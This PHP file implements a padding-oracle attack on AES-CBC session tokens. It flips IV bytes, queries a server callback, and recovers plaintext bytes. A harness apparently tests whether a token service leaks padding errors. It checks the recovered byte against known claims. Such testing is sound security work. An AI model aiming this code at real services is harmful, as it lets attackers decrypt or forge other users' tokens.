<?php

declare(strict_types=1);

/**
 * A padding-oracle attack. It needs one AES-CBC token, no secret, and a server that answers about
 * other tokens. It sends a block of the token after an IV of its own and changes the IV's last byte.
 * For one or two of its 256 values the padding is right. If the server then answers differently, the
 * last byte of the block is known. The others follow in the same way, and with them the attacker can
 * read tokens and forge others.
 */
final class PaddingOracleAttack
{
    private const BLOCK = 16;

    /** The number of times the server was asked. */
    public int $calls = 0;

    /** @var Closure(string): string */
    private readonly Closure $ask;

    /** @var list<string> the IV and the blocks of the ciphertext */
    private readonly array $blocks;

    /** @param callable(string): string $ask returns the server's whole answer about a token */
    public function __construct(string $token, callable $ask)
    {
        $this->ask = $ask(...);
        $binary = base64_decode(substr($token, 2));
        $this->blocks = str_split(substr_replace(substr($binary, 10), '', self::BLOCK, 2), self::BLOCK);
    }

    /** Returns the number of blocks that can be attacked. */
    public function blocks(): int
    {
        return count($this->blocks) - 1;
    }

    /**
     * Returns the last byte of the plaintext of a block, counted from 1, or null if nothing is learned.
     *
     * @param bool $whole whether the blocks before it are sent too
     */
    public function lastByte(int $block, bool $whole = false): ?int
    {
        $guesses = [];
        $secondToLast = random_int(0, 255);
        for ($guess = 0; $guess < 256; $guess++) {
            $guesses[$this->answer($block, $secondToLast, $guess, $whole)][] = $guess;
            if (count($guesses) > 1 && $guess > 1) {
                usort($guesses, static fn (array $a, array $b): int => count($a) <=> count($b));
                return $guesses[0][0] ^ 1 ^ ord($this->blocks[$block - 1][self::BLOCK - 1]);
            }
        }
        return null;
    }

    private function answer(int $block, int $secondToLast, int $last, bool $whole): string
    {
        $this->calls++;
        $changed = substr($this->blocks[$block - 1], 0, -2) . chr($secondToLast) . chr($last);
        $sent = [...($whole ? array_slice($this->blocks, 0, $block - 1) : []), $changed, $this->blocks[$block]];
        $iv = array_shift($sent);
        $ciphertext = implode('', $sent);
        $binary = pack('Jn', EXPIRE, self::BLOCK) . $iv . pack('n', strlen($ciphertext)) . $ciphertext;
        return ($this->ask)('04' . base64_encode($binary));
    }
}

/**
 * Attacks each block of a token alone and with the blocks before it. Prints the calls until the first
 * byte is known.
 */
function attack(callable $ask, ?int $blocks = null): void
{
    $token = forge_token(CLAIMS_AS_JSON);
    $attack = new PaddingOracleAttack($token, $ask);
    // The plaintext with its padding, which the attacker does not know.
    $pad = 16 - strlen(CLAIMS_AS_JSON) % 16;
    $plaintext = CLAIMS_AS_JSON . str_repeat(chr($pad), $pad);
    for ($block = $attack->blocks(); $block > $attack->blocks() - ($blocks ?? $attack->blocks()); $block--) {
        foreach ($blocks === 1 ? [false] : [false, true] as $whole) {
            $byte = $attack->lastByte($block, $whole);
            if ($byte !== null) {
                $is = $byte === ord($plaintext[16 * $block - 1]) ? 'right' : 'wrong';
                echo "the last byte of block $block is known after $attack->calls calls: $byte, which is $is\n";
                return;
            }
        }
    }
    echo "nothing is known after $attack->calls calls\n";
}

const CLAIMS_AS_JSON = '{"app_id":1234567890,"user_id":"user1","nonce":12345,"ctime":1795000000,'
    . '"expire":1795003600,"payload":""}';
